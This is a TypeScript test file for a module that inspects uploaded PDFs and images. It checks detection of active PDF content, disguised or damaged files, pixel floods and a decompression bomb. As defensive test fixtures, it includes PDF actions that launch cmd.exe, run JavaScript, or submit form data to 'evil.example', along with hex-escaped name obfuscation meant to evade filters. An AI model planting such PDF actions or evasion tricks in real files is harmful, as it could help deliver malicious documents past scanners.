import { rmSync, writeFileSync } from "node:fs";
import { resolve } from "node:path";
import { deflateSync } from "node:zlib";
import { afterAll, describe, expect, test } from "vitest";
import { fastFolder } from "#tests/fast-folder.ts";
import { aPdf, aPdfBomb, aPng, eicar, sha256Of } from "#tests/sample-files.ts";
import { inspectFile } from "./inspect-in-thread.ts";

const folder = fastFolder("tabax-inspect-");
afterAll(() => rmSync(folder, { recursive: true, force: true }));

async function inspect(content: Buffer, name: string) {
  const path = resolve(folder, "file");
  writeFileSync(path, content);
  const file = { id: "file", name, bytes: content.length, sha256: sha256Of(content) };
  return await inspectFile(path, file);
}

const script = "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>";
const html = Buffer.from("<!doctype html><script>alert(1)</script>");

describe("an accepted file", () => {
  test.each([
    ["a PDF", "quitus.pdf", aPdf({ pages: 3 }), { type: "application/pdf", pages: 3 }],
    ["a PDF without an ending", "quitus", aPdf(), { type: "application/pdf", pages: 1 }],
    [
      "a PDF after a mark of Unicode",
      "a.pdf",
      Buffer.concat([Buffer.from("\uFEFF"), aPdf({ pages: 2 })]),
      { type: "application/pdf", pages: 2 },
    ],
    ["a PDF named by a date", "CSS 31.12.2025", aPdf(), { type: "application/pdf" }],
    ["a PNG with the ending of a JPEG", "a.jpg", aPng(), { type: "image/png" }],
    ["an animated PNG", "a.png", aPngWith("acTL", Buffer.alloc(8)), { type: "image/png" }],
    ["a JPEG", "a.jpg", aPhoto(), { type: "image/jpeg" }],
    [
      "a JPEG with more bytes after its end",
      "a.jpg",
      Buffer.concat([aPhoto(), Buffer.from("SEFT")]),
      { type: "image/jpeg" },
    ],
    ["a PNG", "photo.PNG", aPng(), { type: "image/png", pages: null }],
    ["a PDF that runs a script", "a.pdf", aPdf({ more: script }), { hasScript: true }],
    ["a PDF of 24 megabytes", "a.pdf", aPdf({ text: "x".repeat(24_000_000) }), { pages: 1 }],
    ["a PDF of 5 000 pages", "a.pdf", aPdf({ pages: 5000 }), { pages: 5000 }],
    ["a PDF packed as small as can be", "a.pdf", aPdfBomb({ megabytes: 16 }), { pages: 1 }],
  ])("an accepted file is %s", async (_what, name, content, result) => {
    expect(await inspect(content, name)).toMatchObject({ ok: true, ...result });
  });
});

/** A PDF with one more object, which its catalog references. */
const withObject = (object: string, entry = "/AA 9 0 R") => {
  const text = aPdf({ more: entry }).toString("latin1");
  return Buffer.from(text.replace(/(?=\nxref|xref)/, `9 0 obj\n${object}\nendobj\n`), "latin1");
};
const packedObject = (object: string, dictionary = "/Filter /FlateDecode") => {
  const packed = deflateSync(Buffer.from(`9 0 ${object}`)).toString("latin1");
  return withObject(
    `<< /Type /ObjStm /N 1 /First 4 ${dictionary} /Length ${packed.length} >>\nstream\n${packed}\nendstream`,
  );
};

describe("a PDF with something active in it has the mark", () => {
  test.each([
    ["a script when it opens", aPdf({ more: script })],
    ["a script of the document", aPdf({ more: "/Names << /JavaScript << /Names [] >> >>" })],
    ["a script of a page", withObject("<< /O << /S /JavaScript /JS (app.alert(1)) >> >>")],
    [
      "a script of an annotation",
      withObject("<< /Type /Annot /Subtype /Link /A << /S /JavaScript /JS 10 0 R >> >>"),
    ],
    ["a program to launch", withObject("<< /S /Launch /F (cmd.exe) >>")],
    ["a form that is sent", withObject("<< /S /SubmitForm /F (https://evil.example) >>")],
    ["a form that reads data", withObject("<< /S /ImportData /F (x) >>")],
    ["a form of the XFA kind", aPdf({ more: "/AcroForm << /Fields [] /XFA 9 0 R >>" })],
    ["an attached file", aPdf({ more: "/Names << /EmbeddedFiles << /Names [] >> >>" })],
    ["a file in an annotation", withObject("<< /Type /Annot /Subtype /FileAttachment >>")],
    ["a film with a program", withObject("<< /Type /Annot /Subtype /RichMedia >>")],
    ["a name written in digits", withObject("<< /S /J#61va#53cript /JS (1) >>")],
    ["a script in an object stream", packedObject("<< /S /JavaScript /JS (1) >>")],
    ["a launch in an object stream", packedObject("<< /S /L#61unch /F (x) >>")],
    [
      "an object stream of an unusual packing",
      packedObject("<< /Type /Page >>", "/Filter /LZWDecode"),
    ],
    [
      "a script after a comment that looks like a stream",
      withObject("% >> stream\n<< /S /JavaScript /JS (1) >>\nendstream"),
    ],
  ])("a PDF with %s has the mark of active content", async (_what, content) => {
    expect(await inspect(content, "a.pdf")).toMatchObject({ ok: true, hasScript: true });
  });

  test.each([
    ["an ordinary PDF", aPdf({ pages: 2 })],
    ["a PDF that says which page to show first", aPdf({ more: "/OpenAction [4 0 R /Fit]" })],
    ["a PDF with a link", withObject("<< /S /URI /URI (https://tabax.sn) >>")],
    ["a PDF with packed objects", packedObject("<< /Type /Page >>")],
    ["a PDF of 24 megabytes", aPdf({ text: "/JS ".repeat(6_000_000) })],
    ["a form to fill in", aPdf({ more: "/AcroForm << /Fields [] >>" })],
  ])("a PDF with %s has no mark", async (_what, content) => {
    expect(await inspect(content, "a.pdf")).toMatchObject({ ok: true, hasScript: false });
  });
});

describe("a refused file", () => {
  test.each([
    ["nothing", "quitus.pdf", Buffer.alloc(0), "empty"],
    ["a page of the web", "quitus.pdf", html, "other-type"],
    ["a program with the name of a paper", "quitus.pdf", eicar, "other-type"],
    ["a script before a PDF", "a.pdf", Buffer.concat([html, aPdf()]), "other-type"],
    ["a picture with the name of a PDF", "quitus.pdf", aPng(), "disguised"],
    ["a PDF with the name of a program", "quitus.exe", aPdf(), "disguised"],
    ["a PDF behind a password", "a.pdf", aPdf({ locked: true }), "locked"],
    ["a PDF cut short", "a.pdf", aPdf({ pages: 9 }).subarray(0, 400), "damaged"],
    ["a PDF of noise", "a.pdf", Buffer.from(`%PDF-1.4\n${"x".repeat(5000)}`), "damaged"],
    ["an archive with the name of a paper", "a.pdf", archive(), "other-type"],
    ["a single byte", "a.pdf", Buffer.from("%"), "other-type"],
    ["a picture without a pixel", "a.png", aPng({ width: 0, height: 8 }), "damaged"],
    [
      "a photograph of four thousand million pixels",
      "a.jpg",
      aJpeg({ side: 65_535 }),
      "too-many-pixels",
    ],
    ["a WebP of the same", "a.webp", aWebp({ side: 16_000_000 }), "too-many-pixels"],
    [
      "half of a photograph with a small picture in it",
      "a.jpg",
      aPhoto().subarray(0, -2),
      "damaged",
    ],
    [
      "a PNG cut short whose text names the end",
      "a.png",
      aPngWith("tEXt", Buffer.from("IEND")).subarray(0, -12),
      "damaged",
    ],
    ["a picture cut short", "a.png", aPng().subarray(0, 40), "damaged"],
    [
      "a picture of a square kilometre",
      "a.png",
      aPng({ width: 30_000, height: 30_000 }),
      "too-many-pixels",
    ],
    ["a picture as an iPhone stores it", "a.heic", heic(), "heic"],
  ])("a refused file: %s", async (_what, name, content, fault) => {
    expect(await inspect(content, name)).toEqual({ ok: false, fault });
  });
});

test("a PDF of some kilobytes that expands to a gigabyte is given up before it uses that memory", {
  timeout: 120_000,
}, async () => {
  await inspect(aPdf(), "before.pdf");
  const before = process.memoryUsage.rss();
  let most = before;
  const looking = setInterval(() => {
    most = Math.max(most, process.memoryUsage.rss());
  }, 20);
  expect(await inspect(aPdfBomb(), "a.pdf")).toEqual({ ok: false, fault: "damaged" });
  clearInterval(looking);
  expect((most - before) / 1024 / 1024).toBeLessThan(1_000);
});

test("a picture that takes long to read does not block the process", {
  timeout: 120_000,
}, async () => {
  const markers = Buffer.alloc(16_000_000, Buffer.from([0xff, 0xe0, 0, 2]));
  await inspect(aJpeg(), "before.jpg");
  const [thread, all] = [process.threadCpuUsage(), process.cpuUsage()];
  const inspection = await inspect(
    Buffer.concat([aJpeg().subarray(0, 8), markers, aJpeg().subarray(8)]),
    "a.jpg",
  );
  const used = ({ user, system }: NodeJS.CpuUsage) => user + system;
  expect(inspection).toMatchObject({ ok: true });
  expect(used(process.threadCpuUsage(thread))).toBeLessThan(used(process.cpuUsage(all)) / 2);
});

const archive = () => Buffer.concat([Buffer.from("PK\x03\x04\x14\0\0\0\x08\0"), Buffer.alloc(200)]);

function aJpeg({ side = 8 } = {}): Buffer {
  const size = Buffer.from([0xff, 0xc0, 0, 11, 8, 0, 0, 0, 0, 1, 1, 0x11, 0]);
  size.writeUInt16BE(side, 5);
  size.writeUInt16BE(side, 7);
  const head = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 4, 0, 0]);
  const scan = Buffer.from([0xff, 0xda, 0, 8, 1, 1, 0, 0, 63, 0, 7, 7, 0xff, 0xd9]);
  return Buffer.concat([head, size, scan]);
}

/** A photograph whose Exif data hold a small picture. */
function aPhoto(): Buffer {
  const small = Buffer.concat([Buffer.from("Exif\0\0"), aJpeg()]);
  const segment = Buffer.from([0xff, 0xe1, 0, small.length + 2]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), segment, small, aJpeg().subarray(2)]);
}

/** A PNG with one more chunk after its header. */
function aPngWith(chunk: string, data: Buffer): Buffer {
  const framed = Buffer.alloc(data.length + 12);
  framed.writeUInt32BE(data.length, 0);
  framed.write(chunk, 4, "latin1");
  framed.set(data, 8);
  return Buffer.concat([aPng().subarray(0, 33), framed, aPng().subarray(33)]);
}

function aWebp({ side = 8 } = {}): Buffer {
  const content = Buffer.alloc(40);
  content.write("RIFF", 0, "latin1");
  content.writeUInt32LE(32, 4);
  content.write("WEBPVP8X", 8, "latin1");
  content.writeUInt32LE(10, 16);
  content.writeUIntLE(side - 1, 24, 3);
  content.writeUIntLE(side - 1, 27, 3);
  return content;
}

function heic(): Buffer {
  const box = Buffer.alloc(64);
  box.writeUInt32BE(24, 0);
  box.write("ftypheic", 4, "latin1");
  box.write("heicmif1", 16, "latin1");
  return box;
}
